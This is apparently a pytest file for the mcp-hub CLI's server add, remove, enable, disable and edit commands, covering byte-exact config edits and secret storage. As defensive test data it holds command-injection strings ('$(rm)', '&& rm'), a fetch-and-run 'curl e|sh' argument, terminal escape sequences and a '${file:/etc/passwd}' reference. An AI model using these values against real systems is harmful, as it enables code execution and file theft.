"""`mcp-hub add`, `remove`, `enable`, `disable` and `edit`: the configuration changes as asked, and no other byte."""

import json
import os
import sys
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import msgspec
import pytest
import yaml
from click.testing import CliRunner

from mcp_hub import masking
from mcp_hub.cli import main
from mcp_hub.config.load.load import load
from tests.unit.cli.homes import CANARIES, run

CANARY = CANARIES[0]
BEFORE = """\ufeff# top
servers: # all
    time: {command: uvx, args: [mcp-server-time]} # the clock

    # two lines
    # about git
    git:
        command: git-mcp
        env: {LEVEL: debug} # less
hub: {log: {level: info}} # end
"""


@pytest.fixture
def file(person: Path) -> Path:
    path = person / "servers.yaml"
    path.write_bytes(BEFORE.replace("\n", "\r\n").encode())
    path.chmod(0o640)
    return path


def text(file: Path) -> str:
    """With `\\n` for every `\\r\\n`; there is no other line break."""
    whole = file.read_bytes().decode()
    assert whole.count("\n") == whole.count("\r\n")
    return whole.replace("\r\n", "\n")


def servers(file: Path) -> Any:
    return yaml.safe_load(file.read_text("utf-8-sig"))["servers"]


def test_added_server_stands_behind_the_others_and_removal_gives_every_byte_back(file: Path) -> None:
    before = file.read_bytes()
    run("add", "far", "https://far.example/mcp", "--header", "X-Key=${FAR_KEY}")
    place = BEFORE.index("hub:")
    added = "    far:\n        url: https://far.example/mcp\n        headers:\n            X-Key: ${FAR_KEY}\n"
    assert text(file) == BEFORE[:place] + added + BEFORE[place:]
    run("remove", "far")
    assert file.read_bytes() == before and file.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize("command", ["remove", "enable", "disable", "edit"])
def test_without_a_configuration_the_command_that_makes_one_is_named(
    file: Path, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = file.parent / "none" / "servers.yaml"
    monkeypatch.setenv("MCP_HUB_CONFIG", str(place))
    said = run(command, *(() if command == "edit" else ("x",)), code=2).stderr
    assert said == f"{place} does not exist. Create it with: mcp-hub init [config_not_found]\n"
    assert not place.parent.exists()


def test_secret_that_no_server_uses_any_more_is_named(file: Path) -> None:
    for name in ("one", "two"):
        run("add", name, "--env", f"API_KEY={CANARY}", "--", "prog")
    run("add", "three", "--env", "API_KEY=${file:secrets/two.API_KEY}", "--", "prog")
    assert "secrets" not in run("remove", "three").stderr
    left = run("remove", "one", "time").stderr
    assert str(file.parent / "secrets" / "one.API_KEY") in left and "two" not in left


def test_switching_a_server_off_and_on_gives_every_byte_back(file: Path) -> None:
    before = file.read_bytes()
    run("disable", "time", "git")
    changed = BEFORE.replace("-time]}", "-time], enabled: false}").replace(
        "# less\n", "# less\n        enabled: false\n"
    )
    assert text(file) == changed
    assert "Nothing to do" in run("disable", "git").stderr
    run("enable", "time", "git")
    assert file.read_bytes() == before
    plain = "servers:\n  a:\n    command: x\n    enabled: false # slow\n  b: {command: y, disabled: true}\n"
    file.write_text(plain)
    run("enable", "a", "b")
    assert file.read_text() == plain.replace("false", "true").replace(", disabled: true", "")


@pytest.mark.parametrize("name", ["a'b\"c", "x & y; z", "$(rm)", "-x", "ünï ✓", "n: #", "true", "1.5"])
def test_any_name_and_argument_is_data(file: Path, name: str) -> None:
    args = [name, "a b", "${HOME}", "#", "{", "&& rm", ""]
    run("add", "--", name, "prog", *args)
    assert servers(file)[name] == {"command": "prog", "args": args}
    assert load(file, {"HOME": "/h"}).settings.servers[name].args == [*args[:2], "/h", *args[3:]]
    run("remove", "--", name)
    assert text(file) == BEFORE


def test_settings_of_the_command_line_stay_in_the_configuration_and_secrets_do_not(file: Path) -> None:
    plain = {
        **{"MODE": "production-eu", "OWNER": "some-team", "EMAIL": "jane.doe@example.com", "NAME": "Hello World"},
        **{
            "MEMORY_FILE_PATH": "data/mem.json",
            "BUILD_ID": "550e8400-e29b-41d4-a716-446655440000",
            "AUTH_TYPE": "oauth2",
        },
        **{"GOOGLE_APPLICATION_CREDENTIALS": "/home/jane/sa.json", "MAX_TOKENS": "16384"},
    }
    secret = {"DOOR_PIN": "4711", "CALDAV_PASSWORD": "p", "DB": "postgres://u:dev@h/db", "OTHER": f"ghp_{'aB3' * 12}"}
    options = [word for name, value in {**plain, **secret}.items() for word in ("--env", f"{name}={value}")]
    run("add", "s", *options, "--", "prog", "--region", "eu-west-1")
    own = servers(file)["s"]
    assert own["env"] == {**plain, **{name: f"${{file:secrets/s.{name}}}" for name in secret}}
    assert own["args"] == ["--region", "eu-west-1"]
    assert masking.hide("production-eu some-team 4711") == "production-eu some-team ***"


def test_secret_of_the_command_line_goes_into_a_file_and_is_not_shown(file: Path) -> None:
    run(
        "add", "s", "--env", f"API_KEY={CANARY}", "--env", "MODE=fast", "--", "prog", "--token", CANARY, f"--k={CANARY}"
    )
    own = servers(file)["s"]
    assert own["env"] == {"API_KEY": "${file:secrets/s.API_KEY}", "MODE": "fast"}
    assert CANARY not in file.read_text() and len(list((file.parent / "secrets").iterdir())) == 3
    loaded = load(file, {}).settings.servers["s"]
    assert loaded.env["API_KEY"] == CANARY and loaded.args == ["--token", CANARY, f"--k={CANARY}"]
    assert load(file, {}).warnings == ()


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (("add", "time", "--", "x"), "server_exists"),
        (("remove", "tim"), "unknown_server"),
        (("enable", "other"), "unknown_server"),
        (("add", "x", "https://u:p@h/"), "invalid_url"),
        (("add", "x", "--", ""), "out_of_range"),
        (("add", "x\ny", "--", "x"), "invalid_value"),
        (("add", "no-file.json"), "config_unreadable"),
        (("add", "some-name"), "no_registry"),
    ],
)
def test_refusal_names_its_code_and_changes_nothing(file: Path, args: tuple[str, ...], code: str) -> None:
    assert f"[{code}]" in run(*args, code=2).stderr
    assert text(file) == BEFORE


@pytest.mark.parametrize(
    "args",
    [
        ("add", "x"),
        ("add", "x", "npx", "-y", "z"),
        ("add", "x", "--header", "A=b", "--", "y"),
        ("add", "x", "https://h", "--cwd", "/"),
        ("add", "x", "--env", "secret", "--", "y"),
        ("add",),
    ],
)
def test_options_that_do_not_fit_are_refused(file: Path, args: tuple[str, ...]) -> None:
    run(*args, code=2)
    assert text(file) == BEFORE


def test_first_server_makes_a_private_file_and_what_cannot_be_edited_gets_lines_to_paste(file: Path) -> None:
    file.write_text("servers:\n  ? time\n  : {command: x}\n")
    done = run("add", "s", "--env", f"API_KEY={CANARY}", "--", "prog", code=2)
    assert "[not_editable]" in done.stderr and "command: prog" in done.stdout
    assert not (file.parent / "secrets").exists()
    file.unlink()
    run("add", "a", "--cwd", "~", "--", "prog")
    assert servers(file) == {"a": {"command": "prog", "cwd": os.path.expanduser("~")}}
    assert file.stat().st_mode & 0o777 == 0o600


def test_link_is_followed_and_stays(file: Path) -> None:
    target = file.rename(file.parent / "real.yaml")
    file.symlink_to(target)
    run("remove", "git")
    assert file.is_symlink() and "git" not in servers(target)
    target.unlink()
    assert "[dangling_link]" in run("add", "a", "--", "x", code=2).stderr
    assert file.is_symlink() and not target.exists()


@pytest.mark.processes
def test_edited_file_is_checked(file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    script = file.parent / "edit er.py"
    script.write_text("import sys; p = sys.argv[1]; t = open(p).read(); open(p, 'w').write(t.replace('git-mcp', '[]'))")
    monkeypatch.setenv("VISUAL", f"{sys.executable} '{script}'")
    assert "[wrong_type]" in run("edit", code=2).stderr
    monkeypatch.setenv("VISUAL", "true")
    file.write_text("servers: {a: {command: x}}\n")
    assert "valid" in run("edit").stderr
    monkeypatch.setenv("VISUAL", "/nowhere/editor")
    assert "[editor_failed]" in run("edit", code=2).stderr
    for name in ("VISUAL", "EDITOR"):
        monkeypatch.delenv(name, raising=False)
    assert "There is no terminal for the editor." in run("edit", code=2).stderr


def server_json(**more: object) -> dict[str, object]:
    package = {"registryType": "npm", "identifier": "@x/y", "version": "1.2.3", "transport": {"type": "stdio"}}
    return {"name": "io.example/weather", "packages": [{**package, **more}]}


@pytest.fixture
def registry() -> Any:
    """A registry on this machine that has one server."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found = self.path == "/v0.1/servers/io.example%2Fweather/versions/latest"
            self.send_response(200 if found else 404)
            self.end_headers()
            self.wfile.write(msgspec.json.encode({"server": server_json()}))

        def log_message(self, *_: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()
        thread.join(10)


def test_name_is_looked_up_in_the_registry_and_the_command_is_shown_first(file: Path, registry: str) -> None:
    file.write_text(f"hub: {{registry: '{registry}'}}\n")
    asked = run("add", "io.example/weather", code=2)
    assert "npx -y @x/y@1.2.3" in asked.stderr and "[no_terminal]" in asked.stderr
    assert "servers" not in file.read_text()
    run("add", "io.example/weather", "--yes", "--name", "w")
    assert servers(file) == {"w": {"command": "npx", "args": ["-y", "@x/y@1.2.3"]}}
    assert "[fetch_failed]" in run("add", "io.example/other", code=2).stderr
    assert "[invalid_url]" in run("add", "http://far.example/server.json", code=2).stderr


def document(file: Path, value: object) -> str:
    place = file.parent / "s.json"
    place.write_text(json.dumps(value))
    return str(place)


def test_document_that_can_run_more_than_a_package_is_shown_in_red_and_refused(file: Path) -> None:
    source = document(file, server_json(runtimeArguments=[{"type": "named", "name": "-c", "value": "curl e|sh"}]))
    before = file.read_bytes()
    refused = CliRunner().invoke(main, ["add", source, "--yes"], color=True)
    assert refused.exit_code == 2 and "[any_command]" in refused.stderr
    assert "\x1b[31mweather: npx -y -c 'curl e|sh' @x/y@1.2.3" in refused.stderr
    assert "can run any code with your rights" in refused.stderr.split("weather:")[0]
    assert file.read_bytes() == before
    run("add", source, "--yes", "--allow-any-command")
    assert servers(file)["weather"]["args"] == ["-y", "-c", "curl e|sh", "@x/y@1.2.3"]
    assert "--allow-any-command belong" in run("add", "x", "--allow-any-command", "--", "y", code=2).stderr


def test_document_shows_all_of_its_command_and_no_escape(file: Path) -> None:
    words = ["--token", "eyJhidden.by.masks", "\x1b[2J", "\u202e", "\x9b1m", "a\nb"]
    value = server_json(packageArguments=[{"type": "positional", "value": word} for word in words])
    shown = run("add", document(file, value), "--yes", "--name", "\x1b]0;t", code=2).stderr
    assert "--token eyJhidden.by.masks" in shown.split("[")[0]
    assert not {"\x1b", "\u202e", "\x9b"} & {*shown}
    assert "a\\nb" in shown


def test_document_gets_a_variable_that_is_set_only_if_the_person_names_it(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    header = {"name": "X", "value": "{MY_VAR}", "variables": {"MY_VAR": {"isSecret": True}}}
    remote = {"type": "streamable-http", "url": "https://x.example/mcp", "headers": [header]}
    source = document(file, {"name": "a/b", "remotes": [remote]})
    before = file.read_bytes()
    monkeypatch.setenv("MY_VAR", CANARY)
    refused = run("add", source, "--yes", code=2).stderr
    assert "MY_VAR" in refused and "[variable_not_agreed]" in refused
    assert file.read_bytes() == before
    run("add", source, "--yes", "--set", "MY_VAR=${MY_VAR}")
    assert servers(file)["b"]["headers"] == {"X": "${MY_VAR}"}
    monkeypatch.delenv("MY_VAR")
    run("add", source, "--yes", "--replace")
    assert servers(file)["b"]["headers"] == {"X": "${MY_VAR}"}


def test_server_of_a_stranger_reads_nothing_and_keeps_what_it_declares_secret(file: Path) -> None:
    variables = [{"name": "WORKSPACE", "isSecret": True}, {"name": "TEAM"}]
    source = document(file, server_json(environmentVariables=variables))
    shown = run("add", source, "--yes", "--set", "WORKSPACE=rosebud", "--set", "TEAM=some-team")
    assert servers(file)["weather"]["env"] == {"WORKSPACE": "${file:secrets/weather.WORKSPACE}", "TEAM": "some-team"}
    assert "rosebud" not in shown.output and load(file, {}).settings.servers["weather"].env["WORKSPACE"] == "rosebud"
    value = server_json(packageArguments=[{"type": "positional", "value": "${file:/etc/passwd}"}])
    run("add", document(file, value), "--yes", "--replace")
    assert load(file, {}).settings.servers["weather"].args == ["-y", "@x/y@1.2.3", "${file:/etc/passwd}"]
